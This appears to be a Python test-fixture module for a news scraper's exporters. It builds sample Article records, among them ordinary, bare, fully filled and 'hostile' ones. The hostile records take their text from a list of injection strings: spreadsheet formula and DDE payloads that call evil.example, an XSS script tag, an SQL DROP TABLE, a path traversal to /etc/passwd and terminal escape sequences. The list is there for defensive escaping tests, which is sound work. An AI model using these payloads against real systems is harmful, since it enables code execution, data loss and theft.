"""Records that every exporter must carry: ordinary, hostile, with every field filled, with nothing in it."""

from __future__ import annotations

from typing import Any

import msgspec
from msgspec.inspect import (
    BoolType,
    DictType,
    FloatType,
    IntType,
    LiteralType,
    NoneType,
    StructType,
    UnionType,
    VarTupleType,
    type_info,
)

from scraper import Article
from scraper.model.article import Image, LiveBlogUpdate, Metadata, Person, Publisher
from scraper.model.body import Heading, List, ListItem, Paragraph, Quote, Span, Table

HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTab first",
    "'=quoted",
    ' "=1+1"',
    'comma, "quote", new\nline\r\nand\rreturn',
    "a|b\\c|",
    "U+2028 \u2028 U+2029 \u2029 NEL \x85 end",
    "ESC \x1b[2J OSC \x1b]52;c;x\x07 C1 \x9b2J",
    "bidi \u202e gnp.exe \u2066 \u200f",
    "combining " + "e\u0301" * 50,
    "\U0001f469\u200d\U0001f4bb \U00020000 \ufffd",
    "</script><script>alert(1)</script><svg onload=alert(1)>",
    "--- \nkey: value\n---",
    "'; DROP TABLE articles; --",
    "../../etc/passwd",
    "null",
    "NaN",
    " leading and trailing ",
    "\ufeffBOM",
    "",
)
"""Not a surrogate, not a NUL: those are changed on purpose, and have their own tests."""


def article(number: int, **fields: Any) -> Article:
    """Return an ordinary record."""
    given = {
        "id": f"{number:016x}",
        "url": f"https://news.example.com/story-{number}",
        "canonical_url": f"https://news.example.com/story-{number}",
        "headline": f"Mill {number} turns again",
        "date_published": "2026-03-14T08:30:00+01:00",
        "authors": (Person(name="Ada Quill"), Person(name="Example Desk", type="Organization")),
        "publisher": Publisher(name="Example Courier", url="https://news.example.com/"),
        "keywords": ("mill", "water"),
        "article_body": f"The mill {number} turns.\n\n- one\n- two\n\nIt ground barley.",
        "article_body_html": f"<p>The mill {number} turns.</p>\n<ul><li>one</li><li>two</li></ul>\n<p>It ground barley.</p>",
        "word_count": 9,
        "metadata": Metadata(
            extractor_version="0.1.0",
            confidence=0.97,
            sources={"headline": "jsonld", "datePublished": "meta:article:published_time"},
            text_hash=f"{number:016x}",
        ),
    }
    return Article(**{**given, **fields})


def hostile() -> list[Article]:
    """Return a record for each hostile text, with that text wherever a page could put it."""
    return [
        article(
            1000 + number,
            headline=text or None,
            description=text or None,
            article_body=text,
            keywords=(text, "x", text),
            authors=(Person(name=text), Person(name="|", url=None)),
            images=(Image(caption=text), Image()),
            metadata=Metadata(extractor_version="0.1.0", sources={text: text}, warnings=(text,)),
        )
        for number, text in enumerate(HOSTILE_TEXTS)
    ]


def bare() -> Article:
    """Return a record with nothing but what must be there."""
    return Article(id="f" * 16, metadata=Metadata(extractor_version="0.1.0"))


def full() -> Article:
    """Return a record with every field of every part filled, whatever fields there are."""
    return msgspec.convert({**_filled(type_info(Article), "x"), "id": "e" * 16}, Article)


def with_blocks() -> Article:
    """Return a record whose body stands in it as blocks."""
    link = Span(start=0, end=3, kind="link", url="https://news.example.com/")
    return article(
        77,
        blocks=(
            Heading(text="How", level=2),
            Paragraph(text="The mill turns.", spans=(link, Span(start=4, end=8, kind="strong"))),
            List(text="- one", items=(ListItem(text="one", level=1, ordered=True),)),
            Quote(text="It turns."),
            Table(text="a | b", rows=(("a", "b"), ("", "2")), header=True),
        ),
        is_live_blog=True,
        live_updates=(LiveBlogUpdate(headline="First"), LiveBlogUpdate(article_body="Second")),
    )


def _filled(kind: Any, path: str) -> Any:  # noqa: PLR0911  # one return a type
    match kind:
        case StructType():
            values = {field.encode_name: _filled(field.type, f"{path}.{field.encode_name}") for field in kind.fields}
            return values | ({kind.tag_field: kind.tag} if kind.tag_field else {})
        case UnionType():
            return _filled(next(option for option in kind.types if not isinstance(option, NoneType)), path)
        case VarTupleType():
            options = kind.item_type.types if isinstance(kind.item_type, UnionType) else (kind.item_type,)
            return [_filled(option, f"{path}[{number}]") for number, option in enumerate(options * 2)]
        case DictType():
            return {"headline": path, "odd key\n": path}
        case LiteralType():
            return kind.values[-1]
        case BoolType():
            return True
        case IntType():
            return 2**40 + 1
        case FloatType():
            return 0.1
    return path


ALL = [article(1), article(2), bare(), full(), with_blocks(), *hostile()]
